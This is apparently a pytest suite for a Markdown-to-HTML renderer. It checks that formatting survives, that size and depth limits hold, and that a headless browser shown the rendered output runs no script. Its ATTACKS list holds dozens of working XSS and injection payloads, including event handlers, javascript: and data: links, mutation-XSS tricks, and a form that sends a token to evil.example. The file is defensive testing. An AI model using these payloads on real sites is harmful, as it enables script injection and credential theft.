"""Rendered answers: what stays of Markdown, what never gets through, and bounds on size, depth and time."""

from __future__ import annotations

import re
import shutil
import threading
import time
from collections import Counter
from collections.abc import Iterator
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from everlearn.app.admin.http import POLICY
from everlearn.app.generator.rendering import ATTRIBUTES, DEEPEST, LONGEST, REL, SHOWN, TAGS, rendered

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
DRIVER = shutil.which("chromedriver")

LINK = f'target="_blank" rel="{REL}"'
KEPT = [
    ("**bold** *soft* ~~gone~~", "<p><strong>bold</strong> <em>soft</em> <s>gone</s></p>"),
    ("# One\n\n###### Six", "<h1>One</h1>\n<h6>Six</h6>"),
    ("3. x\n4. y", '<ol start="3">\n<li>x</li>\n<li>y</li>\n</ol>'),
    ("> quoted\n\n---", "<blockquote>\n<p>quoted</p>\n</blockquote>\n<hr>"),
    ("`a < b`", "<p><code>a &lt; b</code></p>"),
    ("```python\nif a < b:\n    pass\n```", '<pre><code class="language-python">if a &lt; b:\n    pass\n</code></pre>'),
    ("    indented", "<pre><code>indented\n</code></pre>"),
    ("[x](https://a.example/?q=1&r=2)", f'<p><a href="https://a.example/?q=1&amp;r=2" {LINK}>x</a></p>'),
    ("<mailto:a@b.example>", f'<p><a href="mailto:a@b.example" {LINK}>mailto:a@b.example</a></p>'),
    ("![a cat](https://a.example/cat.png)", f'<p>!<a href="https://a.example/cat.png" {LINK}>a cat</a></p>'),
    ("[a]: https://a.example", "<p>[a]: https://a.example</p>"),
    ("line\nline  \nbreak", "<p>line\nline<br>\nbreak</p>"),
]

ATTACKS = [
    "<script>hit()</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=hit()>",
    "<svg/onload=hit()>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>hit()</script>'></iframe>",
    "<a href=javascript:hit()>x</a>",
    "<details open ontoggle=hit()>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=https://evil.example><input name=token autofocus onfocus=hit()></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=javascript:hit()></object><embed src=javascript:hit()>",
    "<template><script>hit()</script></template>",
    "<!--><script>hit()</script>-->",
    "<![CDATA[><script>hit()</script>]]>",
    "<?php hit() ?>",
    "[x](javascript:hit())",
    "[x](JaVaScRiPt:hit())",
    "[x](java\tscript:hit())",
    "[x](&#106;avascript:hit())",
    "[x](javascript&colon;hit())",
    "[x](\x01javascript:hit())",
    "[x](vbscript:hit())",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](/rollback)",
    "[x](rollback)",
    "[x](?x=1)",
    "[x](#token)",
    "[x](//evil.example)",
    "[x](https:rollback)",
    "[x](https:/rollback)",
    "[x](http:\\\\evil.example)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:hit())",
    '![x](https://a.example/" onerror="hit())',
    '[x](https://a.example "title\\" onmouseover=\\"hit()")',
    "<javascript:hit()>",
    "<https://a.example/'onclick='hit()>",
    "[a]: javascript:hit()\n\n[a]",
    "[x]: https://a.example 'title\" onclick=\"hit()'\n\n[x]",
    '```" onclick="hit()\ncode\n```',
    "```x&quot;onclick=hit()\ncode\n```",
    "```html\n<script>hit()</script>\n```",
    "`<img src=x onerror=hit()>`",
    "    <script>hit()</script>",
    "|a|\n|:-:|\n|<img src=x onerror=hit()>|",
    "# <script>hit()</script>",
    "**<b onclick=hit()>x</b>**",
    "[<img src=x onerror=hit()>](https://a.example)",
    "[![x](javascript:hit())](javascript:hit())",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "\\<script>hit()\\</script>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<b id=token name=cookie class=primary>x</b>",
    "x\x00<scr\x00ipt>hit()</script>",
    "</pre></div></body><script>hit()</script>",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "\u2028<script>hit()</script>",
    "＜script＞hit()＜/script＞",
]


class Inventory(HTMLParser):
    """The tags and attributes of a fragment; every start must have its end."""

    VOID = frozenset({"br", "hr"})

    def __init__(self, html: str) -> None:
        super().__init__()
        self.attributes: list[tuple[str, str, str]] = []
        self.tags: Counter[str] = Counter()
        self.open: list[str] = []
        self.shown = ""
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.shown += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = handle_pi = handle_comment


def check_harmless(html: str) -> Inventory:
    found = Inventory(html)
    assert found.tags.keys() <= TAGS
    for tag, name, value in found.attributes:
        assert name in ATTRIBUTES.get(tag, set()) | ({"rel", "target"} if tag == "a" else set()), (tag, name)
        if name == "href":
            assert re.match(r"(?i)https?://[^/]|mailto:", value), value
        if name == "class":
            assert re.fullmatch(r"language-[\w+#.-]+", value), value
    links = [(name, value) for tag, name, value in found.attributes if tag == "a" and name in ("rel", "target")]
    assert Counter(links) == Counter({("rel", REL): found.tags["a"], ("target", "_blank"): found.tags["a"]})
    return found


@pytest.mark.parametrize(("markdown", "html"), KEPT)
def test_markdown_is_kept(markdown: str, html: str) -> None:
    assert rendered(markdown).strip() == html
    check_harmless(rendered(markdown))


def test_tables_are_kept_without_styles() -> None:
    html = rendered("|a|b|\n|:-|-:|\n|1|**2**|")
    assert "style" not in html
    assert "<td>1</td>\n<td><strong>2</strong></td>" in html


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_gets_through(attack: str) -> None:
    check_harmless(rendered(attack))
    check_harmless(rendered(f"Hello\n\n> - {attack}\n\n{attack} and *{attack}*"))


@pytest.mark.parametrize("attack", [one for one in ATTACKS if one.startswith("<") and "hit()" in one])
def test_raw_html_is_shown_as_text(attack: str) -> None:
    assert "hit()" in check_harmless(rendered(attack)).shown


@given(st.lists(st.sampled_from([*"<>[]()!\"'`*_~#&;:/\\|-=\n\t ", "script", "on", "x", "javascript:", "https://"])))
def test_any_text_of_the_parts_of_attacks_is_harmless(parts: list[str]) -> None:
    check_harmless(rendered("".join(parts)))


@given(st.text(max_size=300))
def test_any_text_is_harmless(text: str) -> None:
    check_harmless(rendered(text))


@pytest.mark.parametrize(
    "unit",
    [
        *("*a ", "[", "![", "> ", "- ", "`", "```\n", "[a](", "<", "&", "~~a", "|a|b|\n|-|-|\n", "- a\n  ", "\\"),
        *("[a]: x\n", "a**b", "](", '[x](y "', "a`b``c```", "1. ", "<a ", " \n", "\t", "<!--", "<?", "![[]()"),
        *("[![a](b)", "_*a", "||"),
    ],
)
def test_time_is_bounded(unit: str) -> None:
    before = time.process_time()
    html = rendered((unit * LONGEST)[:LONGEST])
    assert time.process_time() - before < 5.0
    check_harmless(html)
    rendered((unit * LONGEST)[: LONGEST + 1])


def test_what_is_too_deep_is_shown_whole() -> None:
    for text in ("> " * 200 + "deep", "\n".join("  " * i + f"- level {i}" for i in range(DEEPEST)) + " deep"):
        found = check_harmless(rendered(text))
        assert found.tags == {"pre": 1}
        assert found.shown == text
    shallow = check_harmless(rendered("> " * 15 + "deep"))
    assert shallow.tags["blockquote"] == 15
    assert shallow.shown.strip() == "deep"


def test_what_is_too_long_is_shown_as_it_is() -> None:
    text = "<b>" + "x" * LONGEST
    assert check_harmless(rendered(text)).shown == text
    long = check_harmless(rendered("y" * (SHOWN + 1234)))
    assert long.shown == "y" * SHOWN + "\n1,234 more characters are not shown."


@pytest.mark.skipif(not (CHROMIUM and DRIVER), reason="needs chromium and chromedriver on the PATH")
def test_a_browser_runs_and_loads_nothing(page_of_attacks: tuple[str, list[str]]) -> None:
    from selenium import webdriver

    url, paths = page_of_attacks
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM or ""
    for argument in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage"):
        options.add_argument(argument)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    browser = webdriver.Chrome(options=options, service=webdriver.ChromeService(DRIVER))
    try:
        browser.get(url)
        assert browser.execute_script("return document.querySelectorAll('article').length") == len(ATTACKS)
        browser.execute_script("document.querySelectorAll('a, b, details').forEach(one => one.focus())")
        assert browser.execute_script("return typeof window.hit + document.title") == "undefinedattacks"
        texts = browser.execute_script("return [...document.querySelectorAll('article')].map(one => one.textContent)")
        assert texts[0].strip() == ATTACKS[0]
        log: Any = browser.get_log("browser")
        assert log == [], "a violation of the policy, or a file that was asked for"
    finally:
        browser.quit()
    assert set(paths) <= {"/", "/favicon.ico"}


@pytest.fixture
def page_of_attacks() -> Iterator[tuple[str, list[str]]]:
    """Serve a page of all rendered attacks under the policy of the pages, and note which paths are asked for."""
    paths: list[str] = []
    articles = "".join(f"<article>{rendered(attack)}</article>" for attack in ATTACKS)
    content = f"<!doctype html><meta charset=utf-8><title>attacks</title>{articles}".encode()

    class Serve(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            paths.append(self.path)
            found = content if self.path == "/" else b""
            self.send_response(200 if found else 204)
            for name, value in POLICY.items():
                self.send_header(name, value)
            self.send_header("content-type", "text/html; charset=utf-8")
            self.send_header("content-length", str(len(found)))
            self.end_headers()
            self.wfile.write(found)

        def log_message(self, format: str, *args: object) -> None:
            """Print nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Serve)
    thread = threading.Thread(target=server.serve_forever, args=(0.01,))
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/", paths
    server.shutdown()
    thread.join()
    server.server_close()
